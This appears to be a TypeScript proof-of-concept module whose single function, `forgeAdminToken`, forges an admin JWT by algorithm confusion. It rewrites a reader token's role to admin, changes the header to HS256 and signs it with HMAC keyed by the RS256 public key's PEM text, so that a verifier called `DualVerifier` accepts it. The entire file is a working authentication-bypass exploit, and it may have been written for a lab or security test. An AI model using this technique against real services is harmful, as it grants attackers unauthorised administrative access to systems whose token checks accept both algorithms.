import { decodeSegment, encodeBase64url, encodeSegment } from './tokens'

const utf8 = new TextEncoder()

/**
 * Turns a valid RS256 reader token into an admin token that `DualVerifier` accepts: the
 * same claims with `role: "admin"`, under `{"alg":"HS256"}`, with an HMAC-SHA-256 keyed with
 * the bytes of the public key's PEM text, exactly as the verifier holds it. The public key
 * is public, so the "secret" of this HMAC is known to everyone.
 */
export async function forgeAdminToken(userToken: string, publicKeyPem: string): Promise<string> {
  const [, payloadSegment] = userToken.split('.') as [string, string]
  const claims = decodeSegment(payloadSegment)
  const input = `${encodeSegment({ alg: 'HS256' })}.${encodeSegment({ ...claims, role: 'admin' })}`
  const algorithm = { name: 'HMAC', hash: 'SHA-256' }
  const key = await crypto.subtle.importKey('raw', utf8.encode(publicKeyPem), algorithm, false, ['sign'])
  const mac = await crypto.subtle.sign('HMAC', key, utf8.encode(input))
  return `${input}.${encodeBase64url(new Uint8Array(mac))}`
}
